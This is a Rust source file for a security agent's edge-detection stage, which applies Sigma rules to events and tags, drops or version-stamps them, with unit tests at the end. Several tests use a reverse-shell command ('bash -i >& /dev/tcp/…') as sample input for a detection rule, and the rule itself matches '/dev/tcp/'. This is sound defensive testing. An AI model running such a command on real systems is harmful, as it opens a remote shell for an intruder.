//! Edge detection: the agent runs the Sigma rules of its rule pack on every event it ships.
//!
//! `[detect]` in the configuration says where the pack comes from: rule files and field
//! mappings named there (`source = "files"`, the default), or the pack the collector serves
//! (`source = "collector"`, see [`crate::rulepack`]). For each event, after normalization:
//! - every event the pack evaluated and that is shipped carries `vigie.rulepack` (the pack's
//!   version), so the collector knows it was evaluated at the edge with that version and, when
//!   it is the collector's own, does not evaluate it again;
//! - rules that match tag it: `vigie.detections` (`[{rule_id, title, level}]`); the pipeline
//!   then seals the batch at once, so a detection does not wait for the batch timeout;
//! - filter rules (custom attribute `vigie: {action: drop}`, or ids listed in
//!   `detect.drop_rules`) drop the event: noise never crosses the network. A drop is counted
//!   per rule and reported in the agent's stats (not as data loss: it is what the rule asks).
//!   An event that a detection rule also matches is kept and tagged, never dropped.
//!
//! With `source = "collector"`, until a pack is known (first start with the collector down)
//! events are shipped without `vigie.rulepack`, and the collector evaluates them.
//!
//! A file pack is reloaded when its files change (checked every `reload_interval_secs`); a
//! served pack when the collector serves a new version. Either way the new pack replaces the
//! old one between two events, so no event is lost or evaluated twice. A pack that cannot be
//! read keeps the previous one in use and counts in `reload_failures`; rules it rejects are
//! logged.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, SystemTime};

use serde::Deserialize;
use serde_json::{json, Value};
use vigie_detect::{Action, LoadOptions, LoadReport, RuleSet};
use vigie_event::Event;
use vigie_wire::DetectStats;

use crate::rulepack::{self, ServedPack};

/// Where the rule pack comes from.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum PackSource {
    /// The rule and mapping files of `[detect]`.
    #[default]
    Files,
    /// The pack the collector serves (`GET /v1/rulepack`).
    Collector,
}

/// `[detect]`: edge detection.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct DetectSection {
    /// Where the rules come from: `"files"` (the `rules` and `mappings` below) or
    /// `"collector"` (the pack the collector serves, fetched every `reload_interval_secs` and
    /// kept in `<data_dir>/rulepack.json`; `rules`, `mappings` and `placeholders` must then
    /// be empty).
    #[serde(default)]
    pub source: PackSource,
    /// Sigma rule files or directories (walked for `*.yml` / `*.yaml`). Empty (with
    /// `source = "files"`): detection off.
    #[serde(default)]
    pub rules: Vec<PathBuf>,
    /// Field-mapping files or directories (pySigma pipelines, as in Vigie's `rules/mappings/`).
    #[serde(default)]
    pub mappings: Vec<PathBuf>,
    /// Values of the `%name%` placeholders used by rules with the `expand` modifier.
    #[serde(default)]
    pub placeholders: BTreeMap<String, Vec<String>>,
    /// Ids of rules whose matches are dropped as noise (like `vigie: {action: drop}`).
    #[serde(default)]
    pub drop_rules: Vec<String>,
    /// How often rule files are checked for changes, or the collector asked for a new pack,
    /// in seconds (0: never reload; a served pack is then fetched at start only).
    #[serde(default = "default_reload_interval_secs")]
    pub reload_interval_secs: u64,
}

fn default_reload_interval_secs() -> u64 {
    10
}

impl DetectSection {
    /// Resolves relative paths against the configuration file's directory.
    pub fn resolve(&mut self, base: &Path) {
        for p in self.rules.iter_mut().chain(self.mappings.iter_mut()) {
            if p.is_relative() {
                *p = base.join(&*p);
            }
        }
    }

    /// Checks the keys that depend on `source`: the key at fault and why, on error.
    pub fn validate(&self) -> Result<(), (&'static str, String)> {
        if self.source == PackSource::Collector {
            let local = [
                ("rules", self.rules.is_empty()),
                ("mappings", self.mappings.is_empty()),
                ("placeholders", self.placeholders.is_empty()),
            ];
            if let Some((key, _)) = local.iter().find(|(_, empty)| !empty) {
                return Err((
                    key,
                    format!(
                        "detect.{key} must be empty with detect.source = \"collector\": the \
                         collector serves the rules, mappings and placeholders (remove \
                         detect.{key}, or use source = \"files\")"
                    ),
                ));
            }
        }
        Ok(())
    }

    /// Whether local rule files are configured (`source = "files"` with rules).
    pub fn enabled(&self) -> bool {
        self.source == PackSource::Files && !self.rules.is_empty()
    }

    /// Whether detection is on: local rule files, or the collector's pack.
    pub fn is_on(&self) -> bool {
        self.enabled() || self.source == PackSource::Collector
    }

    /// `drop_rules` as a set.
    pub fn drop_rule_set(&self) -> BTreeSet<String> {
        self.drop_rules.iter().cloned().collect()
    }

    /// `reload_interval_secs` (`None`: 0, never).
    pub fn reload_interval(&self) -> Option<Duration> {
        (self.reload_interval_secs > 0).then(|| Duration::from_secs(self.reload_interval_secs))
    }
}

/// Loads the pack of the files `cfg` names.
pub fn load_pack(cfg: &DetectSection) -> anyhow::Result<(RuleSet, LoadReport)> {
    let opts = LoadOptions {
        mappings: vigie_detect::load_mappings(&cfg.mappings)?,
        placeholders: cfg.placeholders.clone(),
        drop_rules: cfg.drop_rule_set(),
        disabled: BTreeSet::new(),
        only_central: false,
    };
    Ok(RuleSet::load(&cfg.rules, &opts)?)
}

/// What to do with an event after detection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// No rule matched.
    Pass,
    /// Detections were added to the event.
    Tagged,
    /// A filter rule matched: the event is dropped.
    Drop,
}

/// The agent's detect stage.
pub struct EdgeDetector {
    cfg: DetectSection,
    /// The pack in use; `None` while the collector's pack is not known yet.
    set: Option<RuleSet>,
    /// Modification times and sizes of the pack's files when it was loaded (files only).
    files: Vec<(PathBuf, Option<SystemTime>, u64)>,
    stats: Arc<Mutex<DetectStats>>,
}

impl EdgeDetector {
    /// Loads the pack (the files, or the collector's pack saved in `data_dir` by the last
    /// run); `None` when detection is off.
    pub fn start(cfg: &DetectSection, data_dir: &Path) -> anyhow::Result<Option<Self>> {
        let (set, files) = match cfg.source {
            PackSource::Files if !cfg.enabled() => return Ok(None),
            PackSource::Files => {
                let files = pack_files(cfg);
                let (set, report) = load_pack(cfg)?;
                log_report(&set, &report);
                (Some(set), files)
            }
            PackSource::Collector => (saved_pack(cfg, data_dir), Vec::new()),
        };
        let stats = DetectStats {
            rulepack: set.as_ref().map_or("", |s| s.version()).to_owned(),
            rules: set.as_ref().map_or(0, |s| s.len() as u64),
            ..DetectStats::default()
        };
        Ok(Some(Self {
            cfg: cfg.clone(),
            set,
            files,
            stats: Arc::new(Mutex::new(stats)),
        }))
    }

    /// The counters, shared with the stats reporter.
    pub fn stats(&self) -> Arc<Mutex<DetectStats>> {
        self.stats.clone()
    }

    /// The version of the pack in use (`None`: no pack known yet).
    pub fn version(&self) -> Option<&str> {
        self.set.as_ref().map(RuleSet::version)
    }

    /// Whether the pack comes from the collector.
    pub fn from_collector(&self) -> bool {
        self.cfg.source == PackSource::Collector
    }

    /// The detection settings.
    pub fn config(&self) -> &DetectSection {
        &self.cfg
    }

    /// Runs the rules on `ev`, stamps it with the pack's version and tags it (or tells to drop
    /// it). Without a pack, the event passes unstamped.
    pub fn apply(&self, ev: &mut Event) -> Verdict {
        let Some(set) = &self.set else {
            return Verdict::Pass;
        };
        let matches = set.evaluate(ev);
        let verdict = if matches.is_empty() {
            Verdict::Pass
        } else if matches.iter().all(|r| r.action == Action::Drop) {
            Verdict::Drop
        } else {
            Verdict::Tagged
        };
        let mut stats = self.stats.lock().unwrap_or_else(|e| e.into_inner());
        stats.events_evaluated += 1;
        match verdict {
            Verdict::Pass => {
                drop(stats);
                ev.set("vigie.rulepack", set.version());
            }
            Verdict::Drop => {
                for r in &matches {
                    *stats.filtered.entry(r.id.clone()).or_insert(0) += 1;
                }
            }
            Verdict::Tagged => {
                stats.events_tagged += 1;
                drop(stats);
                let detections: Vec<Value> = matches
                    .iter()
                    .filter(|r| r.action == Action::Tag)
                    .map(|r| json!({"rule_id": r.id, "title": r.title, "level": r.level}))
                    .collect();
                ev.set("vigie.detections", Value::Array(detections));
                ev.set("vigie.rulepack", set.version());
            }
        }
        verdict
    }

    /// Puts a pack the collector served in use (between two events).
    pub fn install(&mut self, pack: ServedPack) {
        log_report(&pack.set, &pack.report);
        tracing::info!(old = self.version().unwrap_or("none"), new = %pack.set.version(), revision = pack.revision, rules = pack.set.len(), "rule pack from the collector in use");
        self.swap(pack.set);
    }

    fn swap(&mut self, set: RuleSet) {
        let mut stats = self.stats.lock().unwrap_or_else(|e| e.into_inner());
        stats.rulepack = set.version().to_owned();
        stats.rules = set.len() as u64;
        drop(stats);
        self.set = Some(set);
    }

    /// Reloads a file pack if one of its files changed (or appeared, or went away). A pack
    /// that cannot be read keeps the current one.
    pub fn reload_if_changed(&mut self) {
        if self.from_collector() {
            return;
        }
        let files = pack_files(&self.cfg);
        if files == self.files {
            return;
        }
        self.files = files;
        match load_pack(&self.cfg) {
            Ok((set, report)) => {
                log_report(&set, &report);
                tracing::info!(old = self.version().unwrap_or("none"), new = %set.version(), rules = set.len(), "rule pack reloaded");
                self.swap(set);
            }
            Err(e) => {
                tracing::error!(error = %e, version = self.version().unwrap_or("none"), "rule pack cannot be reloaded; the previous one stays in use");
                self.stats
                    .lock()
                    .unwrap_or_else(|e| e.into_inner())
                    .reload_failures += 1;
            }
        }
    }

    /// How often to look for changes in the rule files (`None`: never, or the pack comes
    /// from the collector, which [`crate::rulepack::poll`] asks for).
    pub fn reload_interval(&self) -> Option<Duration> {
        if self.from_collector() {
            return None;
        }
        self.cfg.reload_interval()
    }
}

/// The collector's pack saved by the last run, if it is there and valid.
fn saved_pack(cfg: &DetectSection, data_dir: &Path) -> Option<RuleSet> {
    let path = rulepack::saved_path(data_dir);
    let unknown = "no rule pack from the collector yet: events are shipped without \
                   vigie.rulepack and the collector evaluates them until a pack arrives";
    match rulepack::load_saved(&path, &cfg.drop_rule_set()) {
        Ok(Some(pack)) => {
            log_report(&pack.set, &pack.report);
            tracing::info!(path = %path.display(), revision = pack.revision, "rule pack of the last run in use until the collector is asked");
            Some(pack.set)
        }
        Ok(None) => {
            tracing::info!("{unknown}");
            None
        }
        Err(e) => {
            tracing::warn!(path = %path.display(), error = %e, "the saved rule pack is not usable; {unknown}");
            None
        }
    }
}

/// Every file of the pack (rules and mappings) with its modification time and size.
fn pack_files(cfg: &DetectSection) -> Vec<(PathBuf, Option<SystemTime>, u64)> {
    let mut paths = vigie_detect::rule_files(&cfg.rules).unwrap_or_default();
    paths.extend(vigie_detect::rule_files(&cfg.mappings).unwrap_or_default());
    paths
        .into_iter()
        .map(|p| {
            let meta = std::fs::metadata(&p).ok();
            let mtime = meta.as_ref().and_then(|m| m.modified().ok());
            let len = meta.map_or(0, |m| m.len());
            (p, mtime, len)
        })
        .collect()
}

fn log_report(set: &RuleSet, report: &LoadReport) {
    for r in &report.rejected {
        tracing::warn!(file = %r.file.display(), id = r.id.as_deref().unwrap_or("-"), reason = %r.reason, "rule rejected");
    }
    tracing::info!(
        version = %set.version(),
        loaded = report.loaded,
        rejected = report.rejected.len(),
        "rule pack loaded"
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rulepack::tests::{body, process_event, reverse_shell, rule, served, MAPPING};

    fn collector_section() -> DetectSection {
        DetectSection {
            source: PackSource::Collector,
            reload_interval_secs: 10,
            ..DetectSection::default()
        }
    }

    #[test]
    fn every_shipped_event_is_stamped_with_the_version_that_evaluated_it() {
        let dir = tempfile::tempdir().unwrap();
        let rules = dir.path().join("rules");
        std::fs::create_dir(&rules).unwrap();
        std::fs::write(rules.join("shell.yml"), rule("shell", "/dev/tcp/")).unwrap();
        std::fs::write(rules.join("noise.yml"), rule("noise", "apt-get")).unwrap();
        let mapping = dir.path().join("linux.yml");
        std::fs::write(&mapping, MAPPING).unwrap();
        let cfg = DetectSection {
            rules: vec![rules],
            mappings: vec![mapping],
            drop_rules: vec!["noise".into()],
            ..DetectSection::default()
        };
        let edge = EdgeDetector::start(&cfg, dir.path()).unwrap().unwrap();
        let version = edge.version().unwrap().to_owned();

        let mut pass = process_event("ls -la");
        assert_eq!(edge.apply(&mut pass), Verdict::Pass);
        assert_eq!(pass.get_str("vigie.rulepack"), Some(version.as_str()));
        assert!(!pass.contains("vigie.detections"));

        let mut tagged = process_event("bash -i >& /dev/tcp/10.0.0.1/4444");
        assert_eq!(edge.apply(&mut tagged), Verdict::Tagged);
        assert_eq!(tagged.get_str("vigie.rulepack"), Some(version.as_str()));
        assert_eq!(
            tagged.get("vigie.detections"),
            Some(&json!([{"rule_id": "shell", "title": "Rule shell", "level": "medium"}]))
        );

        let mut noise = process_event("apt-get update");
        assert_eq!(edge.apply(&mut noise), Verdict::Drop);

        let stats = edge.stats().lock().unwrap().clone();
        assert_eq!(stats.events_evaluated, 3);
        assert_eq!(stats.events_tagged, 1);
        assert_eq!(stats.filtered.get("noise"), Some(&1));
        assert_eq!(stats.rulepack, version);
    }

    #[test]
    fn without_a_pack_events_pass_unstamped_until_one_is_swapped_in() {
        let dir = tempfile::tempdir().unwrap();
        let mut edge = EdgeDetector::start(&collector_section(), dir.path())
            .unwrap()
            .expect("detection is on");
        assert!(edge.from_collector());
        assert_eq!(edge.version(), None);
        assert_eq!(edge.reload_interval(), None, "no files to watch");
        let mut ev = process_event("bash -i >& /dev/tcp/10.0.0.1/4444");
        assert_eq!(edge.apply(&mut ev), Verdict::Pass);
        assert!(!ev.contains("vigie.rulepack") && !ev.contains("vigie.detections"));
        assert_eq!(edge.stats().lock().unwrap().events_evaluated, 0);

        // Pack A, then pack B: each event is evaluated whole by one of them.
        let a = served(&[("shell.yml", reverse_shell())], &[]);
        let b = served(
            &[
                ("shell.yml", reverse_shell()),
                ("api/x.yml", rule("x", "ls")),
            ],
            &[],
        );
        edge.install(rulepack::validate(&body(&a), &BTreeSet::new()).unwrap());
        let mut first = process_event("ls /dev/tcp/");
        assert_eq!(edge.apply(&mut first), Verdict::Tagged);
        assert_eq!(first.get_str("vigie.rulepack"), Some(a.version.as_str()));
        assert_eq!(
            first
                .get("vigie.detections")
                .map(|d| d.as_array().map(Vec::len)),
            Some(Some(1))
        );
        edge.install(rulepack::validate(&body(&b), &BTreeSet::new()).unwrap());
        let mut second = process_event("ls /dev/tcp/");
        assert_eq!(edge.apply(&mut second), Verdict::Tagged);
        assert_eq!(second.get_str("vigie.rulepack"), Some(b.version.as_str()));
        assert_eq!(
            second
                .get("vigie.detections")
                .map(|d| d.as_array().map(Vec::len)),
            Some(Some(2))
        );
        let stats = edge.stats().lock().unwrap().clone();
        assert_eq!(
            (stats.rulepack.as_str(), stats.rules),
            (b.version.as_str(), 2)
        );
    }

    #[test]
    fn the_pack_saved_by_the_last_run_is_used_at_start_unless_broken() {
        let dir = tempfile::tempdir().unwrap();
        let pack = served(&[("shell.yml", reverse_shell())], &[]);
        rulepack::save(&rulepack::saved_path(dir.path()), &body(&pack)).unwrap();
        let edge = EdgeDetector::start(&collector_section(), dir.path())
            .unwrap()
            .unwrap();
        assert_eq!(edge.version(), Some(pack.version.as_str()));
        assert_eq!(edge.stats().lock().unwrap().rules, 1);

        let mut wrong = pack.clone();
        wrong.version = "sha256-ffffffffffffffff".into();
        rulepack::save(&rulepack::saved_path(dir.path()), &body(&wrong)).unwrap();
        let edge = EdgeDetector::start(&collector_section(), dir.path())
            .unwrap()
            .unwrap();
        assert_eq!(edge.version(), None);
    }
}
